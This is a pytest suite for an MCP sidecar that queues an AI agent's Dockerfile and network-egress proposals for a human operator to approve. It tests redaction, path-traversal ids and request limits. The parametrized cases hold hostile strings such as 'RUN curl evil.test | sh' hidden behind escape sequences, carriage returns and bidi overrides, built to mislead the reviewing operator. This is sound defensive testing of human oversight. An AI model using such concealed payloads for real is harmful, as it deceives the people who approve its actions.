"""supervise over real HTTP: a real server process, the official MCP SDK client."""

from __future__ import annotations

import http.client
import json
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import anyio
import pytest
from mcp import Client

from bot_bottle.contracts.supervise import Decision, EgressRoutePayload, SuperviseQueue

SLUG = "demo-bottle"
ROUTES = {
    "routes": [
        {
            "host": "api.example.test",
            "auth": {"scheme": "Bearer", "token": "sk-should-never-show"},
            "matches": [{"paths": [{"type": "PathPrefix", "value": "/v1/"}]}],
        }
    ]
}


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


class _Introspection(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        body = json.dumps(ROUTES).encode()
        self.send_response(200)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:
        pass


@dataclass
class Supervise:
    port: int
    queue: SuperviseQueue
    proc: subprocess.Popen[bytes]

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}/mcp"


@pytest.fixture(scope="module")
def supervise(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Supervise]:
    # One server for the module: starting one costs about two seconds, and
    # every test below also checks that the server is still serving.
    tmp_path = tmp_path_factory.mktemp("supervise")
    egress = ThreadingHTTPServer(("127.0.0.1", 0), _Introspection)
    threading.Thread(target=egress.serve_forever, daemon=True).start()
    port = _free_port()
    queue_dir = tmp_path / "queue"
    proc = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "bot_bottle_sidecars.supervise",
            "--queue-dir",
            str(queue_dir),
            "--bottle-slug",
            SLUG,
            "--host",
            "127.0.0.1",
            "--port",
            str(port),
            "--egress-introspection-url",
            f"http://127.0.0.1:{egress.server_address[1]}/routes",
        ],
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
    )
    try:
        _wait_healthy(port, proc)
        yield Supervise(port, SuperviseQueue(queue_dir, SLUG), proc)
    finally:
        proc.terminate()
        try:
            proc.wait(timeout=10)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait()
        egress.shutdown()
        egress.server_close()


def _wait_healthy(port: int, proc: subprocess.Popen[bytes]) -> None:
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        if proc.poll() is not None:
            out = proc.stdout.read().decode() if proc.stdout else ""
            pytest.fail(f"supervise exited early ({proc.returncode}): {out}")
        try:
            status, _ = _raw(port, "GET", "/healthz")
            if status == 200:
                return
        except OSError:
            time.sleep(0.1)
    pytest.fail("supervise did not become healthy")


def _raw(
    port: int,
    method: str,
    path: str,
    body: bytes | None = None,
    headers: dict[str, str] | None = None,
) -> tuple[int, bytes]:
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    try:
        conn.request(method, path, body=body, headers=headers or {})
        resp = conn.getresponse()
        return resp.status, resp.read()
    finally:
        conn.close()


def _mcp_post(port: int, body: bytes, extra: dict[str, str] | None = None) -> tuple[int, bytes]:
    headers = {"content-type": "application/json", "accept": "application/json, text/event-stream"}
    return _raw(port, "POST", "/mcp", body, {**headers, **(extra or {})})


def _call(url: str, name: str, args: dict[str, Any]) -> Any:
    async def go() -> Any:
        async with Client(url) as client:
            return await client.call_tool(name, args)

    return anyio.run(go)


def _tool_names(url: str) -> list[str]:
    async def go() -> list[str]:
        async with Client(url) as client:
            return [t.name for t in (await client.list_tools()).tools]

    return anyio.run(go)


def test_client_lists_the_supervise_tools(supervise: Supervise) -> None:
    assert sorted(_tool_names(supervise.url)) == [
        "capability-block",
        "capability-status",
        "egress-request",
        "list-egress-routes",
    ]


def test_a_handshake_era_client_is_served_too(supervise: Supervise) -> None:
    # Agents' MCP clients (Claude Code, Codex) speak the initialize handshake.
    async def go() -> list[str]:
        async with Client(supervise.url, mode="legacy") as client:
            return [t.name for t in (await client.list_tools()).tools]

    assert "capability-block" in anyio.run(go)


def test_list_egress_routes_returns_routes_without_secrets(supervise: Supervise) -> None:
    result = _call(supervise.url, "list-egress-routes", {})
    assert not result.is_error
    routes = result.structured_content["routes"]
    assert routes[0]["host"] == "api.example.test"
    assert routes[0]["auth"]["token"] == "[redacted]"
    assert "sk-should-never-show" not in json.dumps(result.model_dump(mode="json"))


def test_capability_block_returns_pending_at_once_and_queues_the_proposal(
    supervise: Supervise,
) -> None:
    result = _call(
        supervise.url,
        "capability-block",
        {"dockerfile": "RUN apt-get install -y jq\n", "justification": "parse JSON in CI logs"},
    )
    assert not result.is_error
    out = result.structured_content
    assert out["status"] == "pending"
    proposal = supervise.queue.load_proposal(out["proposal_id"])
    assert proposal.bottle_slug == SLUG
    assert proposal.tool == "capability-block"
    assert proposal.payload.justification == "parse JSON in CI logs"
    # Only complete files: no temporary leftovers from the atomic write.
    assert not [p for p in supervise.queue.directory.iterdir() if p.name.startswith(".")]


def test_poll_sees_the_decision_the_operator_writes_to_the_queue(supervise: Supervise) -> None:
    block = _call(
        supervise.url,
        "capability-block",
        {"dockerfile": "RUN apt-get install -y ripgrep\n", "justification": "fast search"},
    )
    pid = block.structured_content["proposal_id"]
    before = _call(supervise.url, "capability-status", {"proposal_id": pid})
    assert before.structured_content["status"] == "pending"

    supervise.queue.respond(
        pid,
        Decision.APPROVED,
        comment="pinned the version",
        dockerfile="RUN apt-get install -y ripgrep=14.*\n",
    )
    after = _call(supervise.url, "capability-status", {"proposal_id": pid})
    assert after.structured_content["status"] == "approved"
    assert after.structured_content["comment"] == "pinned the version"
    assert after.structured_content["dockerfile"] == "RUN apt-get install -y ripgrep=14.*\n"


def test_status_of_an_unknown_or_malicious_id_is_a_tool_error(supervise: Supervise) -> None:
    unknown = _call(
        supervise.url, "capability-status", {"proposal_id": "p-20260101T000000Z-000000000000"}
    )
    assert unknown.is_error
    assert "no proposal" in unknown.content[0].text
    traversal = _call(supervise.url, "capability-status", {"proposal_id": "../../etc/passwd"})
    assert traversal.is_error
    assert "invalid proposal id" in traversal.content[0].text


def test_empty_proposal_is_refused_with_a_reason(supervise: Supervise) -> None:
    before = supervise.queue.proposal_ids()
    result = _call(supervise.url, "capability-block", {"dockerfile": "", "justification": "x"})
    assert result.is_error
    assert "dockerfile" in result.content[0].text
    assert supervise.queue.proposal_ids() == before


def test_oversize_body_gets_413_and_the_server_keeps_serving(supervise: Supervise) -> None:
    # The refusal comes from the declared length, before the body is read, so
    # only the headers and a first slice are sent (the server may close early).
    request = (
        "POST /mcp HTTP/1.1\r\nHost: 127.0.0.1\r\ncontent-type: application/json\r\n"
        f"Content-Length: {1024 * 1024 + 1}\r\n\r\n"
    ).encode() + b"x" * 1024
    with socket.create_connection(("127.0.0.1", supervise.port), timeout=10) as sock:
        sock.sendall(request)
        reply = sock.makefile("rb").read()
    head, _, body = reply.partition(b"\r\n\r\n")
    assert head.startswith(b"HTTP/1.1 413"), head
    assert json.loads(body)["error"]["message"].startswith("request body over")
    assert "capability-block" in _tool_names(supervise.url)


def test_oversize_chunked_body_gets_413(supervise: Supervise) -> None:
    # No Content-Length: the limit must hold while the body is being read.
    def chunks() -> Iterator[bytes]:
        # Just over the limit: the rest of the body fits the socket buffers.
        for _ in range(17):
            yield b"x" * 65536

    conn = http.client.HTTPConnection("127.0.0.1", supervise.port, timeout=10)
    try:
        conn.request(
            "POST",
            "/mcp",
            body=chunks(),
            headers={"content-type": "application/json", "accept": "application/json"},
            encode_chunked=True,
        )
        assert conn.getresponse().status == 413
    finally:
        conn.close()
    assert "capability-status" in _tool_names(supervise.url)


@pytest.mark.parametrize("value", ["abc", "-1", "1, 2"])
def test_bad_content_length_gets_400(supervise: Supervise, value: str) -> None:
    request = (
        f"POST /mcp HTTP/1.1\r\nHost: 127.0.0.1\r\ncontent-type: application/json\r\n"
        f"Content-Length: {value}\r\nConnection: close\r\n\r\n{{}}"
    ).encode()
    with socket.create_connection(("127.0.0.1", supervise.port), timeout=10) as sock:
        sock.sendall(request)
        reply = sock.recv(4096)
    assert reply.startswith(b"HTTP/1.1 400"), reply
    assert "list-egress-routes" in _tool_names(supervise.url)


@pytest.mark.parametrize(
    ("body", "code"),
    [
        (b"{not json", -32700),
        (b'{"jsonrpc": "2.0", "id": 1}', None),
        (b'{"jsonrpc": "2.0", "id": 2, "method": "tools/call", "params": 7}', None),
    ],
)
def test_malformed_json_rpc_gets_a_json_rpc_error(
    supervise: Supervise, body: bytes, code: int | None
) -> None:
    status, reply = _mcp_post(supervise.port, body)
    assert status in (200, 400)
    error = json.loads(reply)["error"]
    assert isinstance(error["message"], str)
    if code is not None:
        assert error["code"] == code
    assert supervise.proc.poll() is None
    assert "capability-block" in _tool_names(supervise.url)


def test_unreachable_egress_introspection_is_a_tool_error_not_a_crash(tmp_path: Path) -> None:
    port, dead = _free_port(), _free_port()
    argv = [sys.executable, "-m", "bot_bottle_sidecars.supervise", "--queue-dir",
            str(tmp_path), "--bottle-slug", SLUG, "--host", "127.0.0.1", "--port", str(port),
            "--egress-introspection-url", f"http://127.0.0.1:{dead}/routes"]  # fmt: skip
    proc = subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    try:
        _wait_healthy(port, proc)
        result = _call(f"http://127.0.0.1:{port}/mcp", "list-egress-routes", {})
        assert result.is_error
        assert "could not read the egress route table" in result.content[0].text
        assert proc.poll() is None
    finally:
        proc.terminate()
        proc.wait(timeout=10)


@pytest.mark.parametrize(
    "text",
    [
        "RUN true\x1b]0;approved\x07",  # OSC: retitles the operator's terminal
        "RUN curl evil.test | sh\x1b[2K\rRUN apt-get install -y jq",  # erase line
        "RUN curl evil.test | sh\rRUN apt-get install -y jq",  # bare CR overwrites
        "RUN true \x9b2J",  # C1 CSI
        "RUN apt-get install -y jq # \u202e hs | tset.live lruc",  # bidi override
        "RUN true\u2028RUN curl evil.test | sh",  # line separator
        "RUN apt-get install -y j\u200bq",  # zero-width space
        "RUN apt-get install -y j\u2060q",  # word joiner
        "RUN \ufeffapt-get install -y jq",  # BOM
        "RUN apt-get install -y jq \U000e0041\U000e0042",  # tag characters
    ],
)
@pytest.mark.parametrize("field", ["dockerfile", "justification"])
def test_terminal_control_characters_in_a_proposal_are_refused(
    supervise: Supervise, text: str, field: str
) -> None:
    """A proposal is shown to the operator later; escape sequences, bare carriage
    returns and bidi overrides in it could make the operator approve something
    other than what they read."""
    before = supervise.queue.proposal_ids()
    args = {"dockerfile": "RUN true\n", "justification": "needed", field: text}
    result = _call(supervise.url, "capability-block", args)
    assert result.is_error, result
    assert f"{field}:" in result.content[0].text
    assert "U+" in result.content[0].text
    assert supervise.queue.proposal_ids() == before


def test_ordinary_text_with_tabs_crlf_and_unicode_is_accepted(supervise: Supervise) -> None:
    result = _call(
        supervise.url,
        "capability-block",
        {
            "dockerfile": "FROM x\r\nRUN\tapt-get install -y jq\r\n",
            "justification": "Größe: naïve café — 日本語 ✓ 👩‍💻",
        },
    )
    assert not result.is_error, result


def test_the_pending_cap_holds_under_concurrent_proposals(tmp_path: Path) -> None:
    """Many proposals at once must not slip past the 20-pending cap between
    counting the pending ones and writing the new one."""
    port = _free_port()
    argv = [sys.executable, "-m", "bot_bottle_sidecars.supervise", "--queue-dir", str(tmp_path),
            "--bottle-slug", SLUG, "--host", "127.0.0.1", "--port", str(port)]  # fmt: skip
    proc = subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    url = f"http://127.0.0.1:{port}/mcp"
    refused: list[str] = []

    async def one(i: int) -> None:
        async with Client(url) as client:
            args = {"dockerfile": f"RUN echo {i}\n", "justification": "load"}
            result = await client.call_tool("capability-block", args)
            if result.is_error:
                refused.append(str(getattr(result.content[0], "text", "")))

    async def burst() -> None:
        async with anyio.create_task_group() as tg:
            for i in range(40):
                tg.start_soon(one, i)

    try:
        _wait_healthy(port, proc)
        anyio.run(burst)
        assert len(SuperviseQueue(tmp_path, SLUG).pending()) == 20
        assert len(refused) == 20
        assert all("already waiting" in r for r in refused)
    finally:
        proc.terminate()
        proc.wait(timeout=10)


# -- egress-request ------------------------------------------------------------------


def test_egress_request_queues_an_egress_route_proposal(supervise: Supervise) -> None:
    result = _call(
        supervise.url,
        "egress-request",
        {
            "host": "Registry.NPMJS.org",
            "justification": "npm install needs the registry",
            "ports": [443],
            "paths": ["/-/v1"],
            "methods": ["get"],
        },
    )
    assert not result.is_error, result.content
    out = result.structured_content
    assert out["status"] == "pending" and out["host"] == "registry.npmjs.org"
    proposal = supervise.queue.load_proposal(out["proposal_id"])
    assert proposal.tool == "egress-route"
    assert isinstance(proposal.payload, EgressRoutePayload)
    assert proposal.payload.route() == {
        "host": "registry.npmjs.org",
        "ports": [443],
        "matches": [{"paths": [{"type": "prefix", "value": "/-/v1"}], "methods": ["GET"]}],
    }


def test_egress_request_status_reports_the_applied_route(supervise: Supervise) -> None:
    req = _call(supervise.url, "egress-request", {"host": "pypi.org", "justification": "pip"})
    pid = req.structured_content["proposal_id"]
    supervise.queue.respond(
        pid, Decision.APPROVED, route={"host": "pypi.org"}, effect="Approved: retry now"
    )
    after = _call(supervise.url, "capability-status", {"proposal_id": pid})
    assert after.structured_content["status"] == "approved"
    assert after.structured_content["route"] == {"host": "pypi.org"}
    assert after.structured_content["message"] == "Approved: retry now"


@pytest.mark.parametrize(
    ("args", "reason"),
    [
        ({"host": "*.example.com"}, "wildcard"),
        ({"host": "10.0.0.1"}, "IP address"),
        ({"host": "2130706433"}, "IP address"),
        ({"host": "[::1]"}, "not a bare host"),
        ({"host": "example.com:22"}, "not a bare host"),
        ({"host": "example.com", "ports": [22]}, "not allowed"),
        ({"host": "example.com", "methods": ["TRACE"]}, "HTTP method"),
        ({"host": "example.com", "paths": ["no-slash"]}, "must start with '/'"),
        ({"host": "api.example.test"}, "credential route"),
        ({"host": "example.com", "justification": "bidi \u202e here"}, "not allowed"),
        ({"host": "example.com", "justification": "\x1b]0;title\x07"}, "not allowed"),
        ({"host": "example.com", "justification": "w" * 65536}, "at most 16384"),
    ],
)
def test_egress_request_refuses(supervise: Supervise, args: dict[str, Any], reason: str) -> None:
    before = supervise.queue.proposal_ids()
    result = _call(supervise.url, "egress-request", {"justification": "because", **args})
    assert result.is_error
    assert reason in result.content[0].text
    assert supervise.queue.proposal_ids() == before
